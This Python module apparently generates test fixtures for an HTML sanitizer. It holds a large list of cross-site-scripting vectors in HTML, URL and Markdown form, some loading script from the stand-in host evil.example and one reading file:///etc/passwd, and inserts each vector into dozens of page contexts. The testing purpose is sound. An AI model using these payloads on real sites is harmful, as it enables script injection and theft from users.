"""Hostile pages as data: every payload in every place of a page, some thousand vectors.

A payload calls `pwn()` when it runs, and asks `evil.example` for something when it loads. A place
is markup with a payload in it, as text, as the value of an attribute or as it is.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from html import escape

_RAW_HTML = (
    "<script>pwn()</script>",
    "<ScRiPt>pwn()</sCrIpT >",
    "<script/src=//evil.example/a.js></script>",
    "<script>pwn()",
    "</script><script>pwn()</script>",
    "<img src=x onerror=pwn()>",
    "<img src=x onerror=pwn()//",
    "<IMG SRC=x OnErRoR='pwn()'>",
    "<img\tsrc=x\tonerror=pwn()>",
    "<img/src=x/onerror=pwn()>",
    "<img src=//evil.example/pixel>",
    "<img srcset=//evil.example/set>",
    "<svg onload=pwn()>",
    "<svg><script>pwn()</script></svg>",
    "<svg/onload=pwn()>",
    "<svg><animate onbegin=pwn() attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror=pwn()></mtext></math>",
    '<math><annotation-xml encoding="text/html"><img src=x onerror=pwn()></annotation-xml></math>',
    "<math><mi//xlink:href='data:x,<script>pwn()</script>'>",
    "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>",
    "<iframe src=javascript:parent.pwn()></iframe>",
    "<iframe src=//evil.example/frame></iframe>",
    "<object data=//evil.example/object></object>",
    "<object data=javascript:pwn()></object>",
    "<embed src=//evil.example/embed>",
    "<video src=//evil.example/video onerror=pwn()></video>",
    "<audio src=x onerror=pwn()></audio>",
    "<details open ontoggle=pwn()>x</details>",
    "<body onload=pwn()>",
    "<input autofocus onfocus=pwn()>",
    "<style>@import '//evil.example/style.css';</style>",
    "<link rel=stylesheet href=//evil.example/link.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/refresh'>",
    "<base href=//evil.example/>",
    "<form action=javascript:pwn()><button autofocus>x</button></form>",
    "<p style='background:url(//evil.example/back)'>x",
    "<a href=javascript:pwn()>x</a>",
    "<template><script>pwn()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=pwn()>'>",
    "<!--><img src=x onerror=pwn()>-->",
    "<!-- --!><img src=x onerror=pwn()>-->",
    "<![CDATA[><img src=x onerror=pwn()>]]>",
    "<?php ?><img src=x onerror=pwn()>",
    "<!DOCTYPE x><img src=x onerror=pwn()>",
    "</p></div></article><img src=x onerror=pwn()>",
    "<div>\n<img src=x onerror=pwn()>\n</div>",
    "<x onclick=pwn() onfocus=pwn() tabindex=1 autofocus>",
    "</title></textarea></style><img src=x onerror=pwn()>",
    "\"><img src=x onerror=pwn()><a title='",
    "' onerror='pwn()' x='",
    '" onerror="pwn()" x="',
    "&lt;img src=x onerror=pwn()&gt;",
    "&#60;img src=x onerror=pwn()&#62;",
    "\\<img src=x onerror=pwn()>",
    "\\\\<img src=x onerror=pwn()>",
    "<\u200bimg src=x onerror=pwn()>",
    "\ufeff<img src=x onerror=pwn()>",
    "<img\x00 src=x onerror=pwn()>",
    "\u202e<img src=x onerror=pwn()>\u2066",
)
_ADDRESSES = (
    "javascript:pwn()",
    "JaVaScRiPt:pwn()",
    " javascript:pwn()",
    "java\tscript:pwn()",
    "java\nscript:pwn()",
    "\x01javascript:pwn()",
    "javascript&colon;pwn()",
    "java&#115;cript:pwn()",
    "javascript&#x3A;pwn()",
    "\u00a0javascript:pwn()",
    "vbscript:pwn()",
    "data:text/html,<script>parent.pwn()</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduKCk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwn()'/>",
    "file:///etc/passwd",
    'https://a.example/"onmouseover="pwn()',
    "https://a.example/)<img src=x onerror=pwn()>",
    "https://a.example/](javascript:pwn())",
    'https://a.example/ "<img src=x onerror=pwn()>',
)
_MARKDOWN = (
    "[x](javascript:pwn())",
    "[x](<javascript:pwn()>)",
    '[x](https://evil.example/ "t")',
    "![x](https://evil.example/image)",
    "![x](javascript:pwn())",
    "<javascript:pwn()>",
    "<https://evil.example/auto>",
    "<mail@evil.example>",
    "<1@evil.example>",
    "[x]: javascript:pwn()\n\n[x]",
    "[^1]: javascript:pwn()",
    "[^1]: https://evil.example/ 'x'",
    "^[<img src=x onerror=pwn()>]",
    "][x](javascript:pwn())",
    "](javascript:pwn())",
    "](https://evil.example/) ![](https://evil.example/image)",
    "` <img src=x onerror=pwn()>",
    "a`b <img src=x onerror=pwn()> c`d`",
    "``` \n<img src=x onerror=pwn()>\n```",
    "```\n\n<img src=x onerror=pwn()>",
    "~~~\n<img src=x onerror=pwn()>",
    "$ <img src=x onerror=pwn()>",
    "$x$ <img src=x onerror=pwn()> $y$",
    "$$\n<img src=x onerror=pwn()>\n$$",
    "$5 `$6 <img src=x onerror=pwn()>`",
    "a | b\n--|--\n<img src=x onerror=pwn()> | c",
    "x\n===\n<img src=x onerror=pwn()>",
    "- <img src=x onerror=pwn()>\n> <svg onload=pwn()>\n# <script>pwn()</script>",
    "---\ntitle: x\n---\n<img src=x onerror=pwn()>",
    "\n\n<div>\n\n<img src=x onerror=pwn()>\n\n</div>",
    "    <img src=x onerror=pwn()>",
    "https://evil.example/\\<img src=x onerror=pwn()>",
    "HTTP://evil.example/`<img src=x onerror=pwn()>`",
    "www.evil.example/\u00a0<img src=x onerror=pwn()>",
    "`" * 70 + "<img src=x onerror=pwn()>",
    "`" * 300 + "\n<img src=x onerror=pwn()>",
    "a*<b@evil.example>*",
    "\\",
    "\\\\`<img src=x onerror=pwn()>`\\",
    "\\href{javascript:pwn()}{x}",
    "\\text{a<img src=x onerror=pwn()>}",
    "a<b, c>d",
    "% x\n- <img src=x onerror=pwn()>",
    "{: onclick=pwn()}",
)
PAYLOADS = _RAW_HTML + _ADDRESSES + _MARKDOWN

Place = Callable[[str], str]
_URL = "https://a.example/"


def _text(markup: str) -> Place:
    """The payload as words of the page."""
    return lambda payload: markup.replace("{}", escape(payload))


def _raw(markup: str) -> Place:
    """The payload as markup of the page."""
    return lambda payload: markup.replace("{}", payload)


_NOTE = '<p>Words<a href="#fn{n}">{}</a> of the page.</p><ol class="footnotes"><li id="fn{n}">{}</li></ol>'

PLACES: dict[str, Place] = {
    "markup": _raw("<div>{}</div>"),
    "text": _text("<p>{}</p>"),
    "text after words": _text("<p>Words {} and more</p>"),
    "text between marks": _text("<p><b>{}</b>{}<i>{}</i></p>"),
    "text after a break": _text("<p>Words<br>{}<br>{}</p>"),
    "heading": _text("<h2>{}</h2>"),
    "raised": _text("<p>x<sup>{}</sup><sub>{}</sub></p>"),
    "struck": _text("<p><s>{}</s> {}</p>"),
    "item": _text("<ul><li>{}</li><li>{}<ol><li>{}</li></ol></li></ul>"),
    "task": _text("<ul><li><input type=checkbox checked> {}</li></ul>"),
    "cell": _text("<table><tr><th>a</th><th>b</th></tr><tr><td>{}</td><td>{}</td></tr></table>"),
    "cell beside code": _text(
        "<table><tr><th>a</th><th>b</th></tr><tr><td>it`s ${}</td><td><code>{}</code></td></tr></table>"
    ),
    "table header": _text(
        "<table><tr><th>{}</th><th>{}</th></tr><tr><td>a</td><td>b</td></tr></table>"
    ),
    "caption": _text(
        "<table><caption>{}</caption><tr><th>a</th></tr><tr><td>b</td><td>c</td></tr></table>"
    ),
    "figure": _text(
        f"<figure><img src={_URL}a{{n}}.png alt=x><figcaption>{{}}</figcaption></figure>"
    ),
    "code block": _text("<pre><code>{}\n\n{}</code></pre>"),
    "inline code": _text("<p>a <code>{}</code> b</p>"),
    "code among words": _text("<p>{} <code>{}</code> {}</p>"),
    "code language": _text('<pre><code class="language-{}">x = 1</code></pre>'),
    "link text": _text(f"<p><a href={_URL}>{{}}</a></p>"),
    "link address": _text('<p><a href="{}">words</a></p>'),
    "link title": _text(f'<p><a href={_URL} title="{{}}">words</a></p>'),
    "link of all": _text('<p><a href="{}" title="{}">{} <code>{}</code></a>{}</p>'),
    "image text": _text(f'<p>a <img src={_URL}photo-{{n}}.png alt="{{}}"></p>'),
    "image address": _text('<p>a <img src="{}" alt="words"></p>'),
    "image title": _text(f'<p>a <img src={_URL}c{{n}}.png alt=words title="{{}}"></p>'),
    "formula in a script": _raw('<p>a <script type="math/tex">{}</script> b</p>'),
    "display formula in a script": _raw('<script type="math/tex; mode=display">{}</script>'),
    "formula in an annotation": _text(
        '<p>a <math><mi>x</mi><annotation encoding="application/x-tex">{}</annotation></math> b</p>'
    ),
    "display formula in an annotation": _text(
        '<math display="block"><semantics><mi>x</mi>'
        '<annotation encoding="application/x-tex">{}</annotation></semantics></math>'
    ),
    "formula in words": _text("<p>a <math><mi>x</mi><mo>&lt;</mo><mtext>{}</mtext></math> b</p>"),
    "formula in parentheses": _text(r'<p>a <span class="math inline">\({}\)</span> b</p>'),
    "formula in brackets": _text(r'<span class="math display">\[{}\]</span>'),
    "formula in dollars": _text('<div class="math">$${}$$</div>'),
    "formula as an image": _text('<p>a <img class="latex" alt="{}" src=f.png> b</p>'),
    "formula in a link": _text(
        f'<p><a href={_URL} title="{{}}">a <span class="math inline">\\({{}}\\)</span></a></p>'
    ),
    "formulas among code": _text(
        r'<p>$5 <code>{}</code> <span class="math inline">\(x\)</span> <code>${}</code> {}</p>'
    ),
    "formula in a cell": _text(
        r'<table><tr><th>a</th><th>b</th></tr><tr><td><span class="math inline">\({}\)</span></td>'
        "<td><code>{}</code></td></tr></table>"
    ),
    "footnote": _text(_NOTE),
    "footnote of code": _text(
        '<p>Words<a href="#fn{n}">1</a> of it.</p><ol class="footnotes"><li id="fn{n}"><pre>{}</pre></li></ol>'
    ),
    "definition": _text("<dl><dt>{}</dt><dd>{}</dd></dl>"),
    "quote": _text('<blockquote cite="{}"><p>{}</p></blockquote>'),
    "details": _text("<details><summary>{}</summary><p>{}</p></details>"),
    "ruby": _text("<p><ruby>a<rp>(</rp><rt>{}</rt><rp>)</rp></ruby></p>"),
    "abbreviation": _text('<p><abbr title="{}">{}</abbr></p>'),
    "player": _text(
        '<p>Words</p><iframe src="https://www.youtube.com/embed/{}" title="{}"></iframe>'
    ),
    "language": _text('<p lang="{}" dir="{}" id="{}" class="{}" style="{}">Words of the page</p>'),
}


def page_of(place: str) -> str:
    """A page with every payload in one place, a section each."""
    put = PLACES[place]
    sections = (
        f"<section>{put(payload).replace('{n}', str(number))}</section>"
        for number, payload in enumerate(PAYLOADS)
    )
    return f"<!doctype html><title>Words</title><article>{''.join(sections)}</article>"


def page_with_metadata(payload: str) -> str:
    """A page that says the payload of itself, in every field and notation."""
    value = escape(payload)
    data = {
        "@type": "NewsArticle",
        "headline": payload,
        "author": {"@type": "Person", "name": payload},
        "keywords": [payload, payload],
        "publisher": {"name": payload},
        "license": payload,
        "image": payload,
    }
    script = json.dumps(data).replace("</", "<\\/")
    return (
        f"<!doctype html><html lang='{value}'><title>{value}</title>"
        f'<meta name="author" content="{value}"><meta name="date" content="{value}">'
        f'<meta name="description" content="{value}"><meta property="og:site_name" content="{value}">'
        f'<meta property="og:type" content="{value}"><meta property="og:image" content="{value}">'
        f'<meta name="keywords" content="{value}, b"><link rel="canonical" href="{value}">'
        f'<script type="application/ld+json">{script}</script>'
        f"<article><h1>{value}</h1><p>Words of the page, some of them at least.</p></article>"
    )


def page_with_embedded_text(payload: str) -> str:
    """A page whose text is the data of a script, with the payload among it."""
    body = f"{payload} Bread needs flour. It needs water. " * 12
    data = json.dumps({"@type": "Article", "articleBody": body}).replace("</", "<\\/")
    return f'<title>Words</title><script type="application/ld+json">{data}</script>'
